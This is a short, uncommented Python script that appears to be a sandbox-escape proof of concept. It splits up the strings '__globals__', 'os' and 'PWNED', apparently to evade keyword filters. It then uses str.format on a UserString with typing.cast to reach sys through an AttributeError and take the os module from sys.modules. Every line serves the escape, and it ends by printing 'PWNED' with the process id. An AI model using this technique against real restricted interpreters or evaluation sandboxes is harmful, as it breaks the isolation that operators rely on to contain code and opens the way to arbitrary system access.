import collections, typing
fmt = "{0.__glo" + "bals__[s" + "ys].zz_not_there}"
us = collections.UserString(fmt)
got = None
fm = getattr(us, 'format')
try:
    fm(typing.cast)
except AttributeError as e:
    got = e.obj
o = got.modules["o" + "s"]
print("PW" + "NED", o.getpid())
